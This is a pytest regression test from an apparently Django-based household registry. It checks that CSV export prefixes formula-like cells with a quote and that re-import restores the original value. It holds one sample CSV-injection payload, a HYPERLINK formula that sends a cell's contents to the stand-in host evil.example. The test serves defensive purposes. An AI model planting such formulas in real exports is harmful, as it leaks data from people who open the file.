"""CSV injection (issue 14): a household address "=HYPERLINK(...)" typed into the
registry is exported to CSV as text (a quote in front), and reads back unchanged."""

from __future__ import annotations

import csv

import pytest

from conftest import VILLAGE
from fupin.core.models import ChangeRecord
from fupin.exchange.export import csv_paths, export_registry
from fupin.exchange.importer import import_registry

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?id="&C3,"点击查看")'


def test_a_formula_address_is_exported_as_text_and_round_trips(users, household, tmp_path):
    household.address = HYPERLINK
    household.save()
    path = tmp_path / "out.csv"
    export_registry(actor=users["village"], area_code=VILLAGE, path=path)
    households = csv_paths(path)["households"]
    raw = households.read_text(encoding="utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in raw
    with households.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert "'" + HYPERLINK in cells
    # no cell of any exported file starts with a formula character
    for part in csv_paths(path).values():
        with part.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "@", "\t", "\r")), (part.name, cell)
    # ... and the export imported again changes nothing: the quote is taken off
    before = ChangeRecord.objects.count()
    result = import_registry(actor=users["village"], path=path)
    assert result.errors.is_empty()
    assert result.counts["households"].unchanged == 1
    assert ChangeRecord.objects.count() == before
    household.refresh_from_db()
    assert household.address == HYPERLINK
